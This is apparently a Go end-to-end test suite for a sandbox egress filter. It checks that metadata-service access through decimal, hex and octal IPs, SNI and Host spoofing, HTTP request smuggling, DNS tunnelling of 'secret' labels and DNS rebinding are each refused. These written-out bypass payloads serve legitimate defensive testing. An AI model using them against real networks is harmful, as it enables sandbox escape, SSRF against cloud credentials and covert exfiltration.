package e2e

// What programs in a sandbox can try by themselves.

import (
	"bytes"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
)

// hostileZone holds what a name server in league with the sandbox says about names under an allowed
// wildcard.
var hostileZone = []string{
	"rebind.files.test. rebind.files.test. 0 A 127.0.0.1", "rebind.files.test. rebind.files.test. 0 AAAA ::1",
	"meta.files.test. meta.files.test. 0 A 169.254.169.254", "meta.files.test. meta.files.test. 0 AAAA fd00:ec2::254",
	"lan.files.test. lan.files.test. 0 A 10.0.2.2", "lan.files.test. lan.files.test. 0 AAAA fd73:6c75:6963:65::2",
	"mapped.files.test. mapped.files.test. 0 AAAA 64:ff9b::7f00:1",
	"mixed.files.test. mixed.files.test. 0 A 169.254.169.254", "mixed.files.test. mixed.files.test. 0 A " + far4,
	"mixed.files.test. mixed.files.test. 0 AAAA fd00:ec2::254", "mixed.files.test. mixed.files.test. 0 AAAA " + far6,
	"off.files.test. off.files.test. 60 A " + far4, "off.files.test. off.files.test. 60 AAAA " + far6,
	"off.files.test. git.test. 60 A " + other4, "off.files.test. git.test. 60 AAAA " + other6,
	"two.files.test. two.files.test. 60 A " + second4, "two.files.test. two.files.test. 60 AAAA " + second6,
	"loop.files.test. loop.files.test. 60 CNAME loop2.files.test.", "loop.files.test. loop2.files.test. 60 CNAME loop.files.test.",
}

// hostileServer holds the other answers of that name server.
var hostileServer = []string{
	"-turn", "flip.files.test. flip.files.test. 0 A " + far4, "-turn", "flip.files.test. flip.files.test. 0 A 169.254.169.254",
	"-turn", "flip.files.test. flip.files.test. 0 AAAA " + far6, "-turn", "flip.files.test. flip.files.test. 0 AAAA fd00:ec2::254",
	// A record whose name points to itself: \xc0\x25 is its own position.
	"-raw", "pointers.files.test. " + base64.StdEncoding.EncodeToString([]byte("\xc0\x25\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc6\x33\x64\x0a")),
	"-many", ".flood.test.",
}

// hello returns the first flight of a TLS client, in records of at most record bytes. With an outer
// name, it encrypts the other one.
func hello(t *testing.T, name, outer string, record int) []byte {
	t.Helper()
	conf := &tls.Config{ServerName: name, InsecureSkipVerify: true}
	if outer != "" {
		conf.EncryptedClientHelloConfigList = echConfig(t, outer)
	}
	near, far := net.Pipe()
	go func() {
		tls.Client(near, conf).Handshake() // fails, because no server answers
		near.Close()
	}()
	head := make([]byte, 5)
	if _, err := io.ReadFull(far, head); err != nil {
		t.Fatal(err)
	}
	body := make([]byte, binary.BigEndian.Uint16(head[3:]))
	if _, err := io.ReadFull(far, body); err != nil {
		t.Fatal(err)
	}
	far.Close()
	var out bytes.Buffer
	for len(body) > 0 {
		n := min(record, len(body))
		out.Write(head[:3])
		binary.Write(&out, binary.BigEndian, uint16(n))
		out.Write(body[:n])
		body = body[n:]
	}
	return out.Bytes()
}

// echConfig returns an HTTPS record's description of a server's key (RFC 9849 section 4).
func echConfig(t *testing.T, public string) []byte {
	t.Helper()
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	prefixed := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
	body := append([]byte{1, 0, 0x20}, prefixed(key.PublicKey().Bytes())...) // config 1, X25519
	body = append(body, prefixed([]byte{0, 1, 0, 1})...)                     // HKDF-SHA256, AES-128-GCM
	body = append(body, 64, byte(len(public)))
	body = append(append(body, public...), 0, 0)
	return prefixed(append([]byte{0xfe, 0x0d}, prefixed(body)...))
}

// question returns a DNS message after its length, as TCP carries it.
func question(message string) string {
	return base64.StdEncoding.EncodeToString(append(binary.BigEndian.AppendUint16(nil, uint16(len(message))), message...))
}

func hostileCommands(t *testing.T) []attempt {
	curl := func(flags ...string) func(bool) []string {
		return func(v6 bool) []string {
			argv := []string{"curl", "-gsSk", "-m", "5", pick(v6, "-4", "-6")}
			for _, f := range flags {
				argv = append(argv, strings.NewReplacer("FAR", bracket(pick(v6, far4, far6)), "OTHER", bracket(pick(v6, other4, other6))).Replace(f))
			}
			return argv
		}
	}
	dig := func(args ...string) func(bool) []string {
		return func(v6 bool) []string {
			return append([]string{"dig", "+tries=1", "+time=2", "@" + pick(v6, dns4, dns6), "-t", pick(v6, "A", "AAAA")}, args...)
		}
	}
	bytesTo := func(four, six string, port int, encoded string, chunk int) func(bool) []string {
		return func(v6 bool) []string {
			return []string{peerBin(), "dial", "-timeout", "4s", "-send-base64", encoded, "-chunk", fmt.Sprint(chunk), at(pick(v6, four, six), port)}
		}
	}
	tlsTo := func(name, outer string, record, chunk int) func(bool) []string {
		return bytesTo(far4, far6, 8443, base64.StdEncoding.EncodeToString(hello(t, name, outer, record)), chunk)
	}
	request := func(text string) func(bool) []string {
		return bytesTo(far4, far6, 8080, base64.StdEncoding.EncodeToString([]byte(text)), 0)
	}
	const index = "egress[0] index"
	header := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	return []attempt{
		{name: "the metadata service in decimal", command: curl("http://2852039166/"), only: "IPv4", reason: "special:metadata"},
		{name: "the metadata service in hexadecimal", command: curl("http://0xa9fea9fe/"), only: "IPv4", reason: "special:metadata"},
		{name: "the metadata service in octal", command: curl("http://0251.0376.0251.0376/"), only: "IPv4", reason: "special:metadata"},
		{name: "a link-local neighbour by its zone", command: func(v6 bool) []string {
			return []string{"sh", "-c", `ip -6 neigh replace fe80::7 lladdr 52:55:0a:00:02:02 dev tap0 && exec "$@"`, "sh", peerBin(), "dial", "-timeout", "1s", at("fe80::7%tap0", portWhoami)}
		}, only: "IPv6", reason: "drop_spoofed_source"},
		{name: "a granted server by its bare address", command: curl("http://FAR:8080/"), reason: index},
		{name: "a granted server without SNI", command: curl("https://FAR:8443/"), reason: index},
		{name: "a granted server by another SNI", command: curl("--resolve", "evil.test:8443:FAR", "https://evil.test:8443/"), reason: index},
		{name: "another SNI in records of one byte", command: tlsTo("evil.test", "", 1, 0), reason: index},
		{name: "another SNI in segments of one byte", command: tlsTo("evil.test", "", 1<<14, 1), reason: index},
		{name: "another SNI, encrypted beside the right one", command: tlsTo("evil.test", "pypi.test", 1<<14, 0), reason: index},
		{name: "a granted name's SNI at another granted name's address", command: func(v6 bool) []string {
			return []string{"sh", "-c", `dig +short "$1" two.files.test A two.files.test AAAA && shift && exec "$@"`, "sh", "@" + pick(v6, dns4, dns6),
				peerBin(), "dial", "-timeout", "4s", "-send-base64", base64.StdEncoding.EncodeToString(hello(t, "pypi.test", "", 1<<14)), at(pick(v6, second4, second6), 8443)}
		}, reason: index},
		{name: "a request that names another host in its first line", command: request("GET http://evil.test:8080/ HTTP/1.1\r\nHost: pypi.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
		{name: "a request with two hosts", command: request("GET / HTTP/1.1\r\nHost: pypi.test:8080\r\nHost: evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
		{name: "a request with a folded host", command: request("GET / HTTP/1.1\r\nHost:\r\n evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
		{name: "a request inside another one's body", command: request("POST / HTTP/1.1\r\nHost: pypi.test:8080\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test:8080\r\n\r\n"), reason: "tcp_first_bytes_malformed"},
		{name: "another Host with a dot at its end", command: curl("-H", "Host: evil.test.", "http://pypi.test:8080/"), reason: index},
		{name: "a granted server by another Host", command: curl("-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
		{name: "another Host on a kept connection", command: curl("http://pypi.test:8080/none", "--next", "-gsSk", "-m", "5", "-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
		{name: "CONNECT through an allowed proxy", command: curl("-p", "-x", "http://pypi.test:8080", "https://OTHER:8443/"), reason: index},
		{name: "a granted name at another address", command: curl("--resolve", "pypi.test:8443:OTHER", "https://pypi.test:8443/"), reason: "default"},
		{name: "a name that no rule has", command: dig("evil.test"), reason: "refusedName"},
		{name: "the same in mixed letters", command: dig("eViL.tEsT"), reason: "refusedName"},
		{name: "a look-alike before a name", command: dig("evilpypi.test"), reason: "refusedName"},
		{name: "a look-alike behind a name", command: dig("pypi.test.evil.io"), reason: "refusedName"},
		{name: "an escaped dot in a name", command: dig(`evil\.pypi.test`), reason: "refusedName"},
		{name: "a look-alike in another alphabet", command: dig("xn--ypi-zed.test"), reason: "refusedName"},
		{name: "another alphabet's letter as it is", command: dig("+noidnin", `\209\128ypi.test`), reason: "refusedName"},
		{name: "an ideographic full stop for a dot", command: dig("+noidnin", `pypi\227\128\130test`), reason: "refusedName"},
		{name: "the canary of browsers", command: dig("use-application-dns.net"), reason: "refusedName"},
		{name: "a zero byte in a name", command: dig(`pypi.test\000.evil.io`), reason: "refusedName"},
		{name: "another resolver over UDP", command: func(v6 bool) []string {
			return []string{"dig", "+tries=1", "+time=2", "@" + pick(v6, other4, other6), "evil.test"}
		}, reason: "refusedName"},
		{name: "another resolver over TCP", command: func(v6 bool) []string {
			return []string{"dig", "+tcp", "+tries=1", "+time=2", "@" + pick(v6, other4, other6), "evil.test"}
		}, reason: "refusedName"},
		{name: "a name over TCP in segments of one byte", command: bytesTo(dns4, dns6, 53, question(header+"\x04evil\x04test\x00\x00\x01\x00\x01"), 1), reason: "refusedName"},
		{name: "a pointer loop in a question", command: bytesTo(dns4, dns6, 53, question(header+"\xc0\x0c\x00\x01\x00\x01"), 0), reason: "formerr"},
		{name: "two questions in one", command: bytesTo(dns4, dns6, 53, question("\x12\x34\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00\x04pypi\x04test\x00\x00\x01\x00\x01\x04evil\x04test\x00\x00\x01\x00\x01"), 0), reason: "formerr"},
		{name: "a type that tunnels", command: func(v6 bool) []string {
			return []string{"dig", "+tries=1", "+time=2", "@" + pick(v6, dns4, dns6), "pypi.test", "TXT"}
		}, reason: "refusedType"},
		{name: "a name that looks encoded", command: dig("secret.mfzwizltoqytemzugq2tmobzgaytcmrtgq2d.k3lnn5yhexg5dvm5ys7uwv3j4xq.tunnel.test"), reason: "refusedTunnel"},
		{name: "a name of many labels", command: dig(strings.Repeat("secret.", 15) + "tunnel.test"), reason: "refusedTunnel"},
		{name: "a label that carries data", command: dig(strings.Repeat("secret", 10) + ".files.test"), reason: "refusedTunnel"},
		{name: "rebinding to loopback", command: dig("rebind.files.test"), reason: "recordsRebound"},
		{name: "rebinding to the metadata service", command: dig("meta.files.test"), reason: "recordsRebound"},
		{name: "rebinding to the local network", command: dig("lan.files.test"), reason: "recordsRebound"},
		{name: "rebinding through NAT64", command: dig("mapped.files.test"), only: "IPv6", reason: "recordsRebound"},
		{name: "a closed address among open ones", command: dig("mixed.files.test"), reason: "recordsRebound"},
		{name: "records that nobody asked for", command: dig("off.files.test"), reason: "recordsForeign"},
		{name: "a pointer loop in an answer", command: dig("pointers.files.test"), reason: "answersRefused"},
		{name: "aliases in a loop", command: dig("loop.files.test"), reason: "answersRefused"},
	}
}

func bracket(addr string) string {
	if strings.Contains(addr, ":") {
		return "[" + addr + "]"
	}
	return addr
}
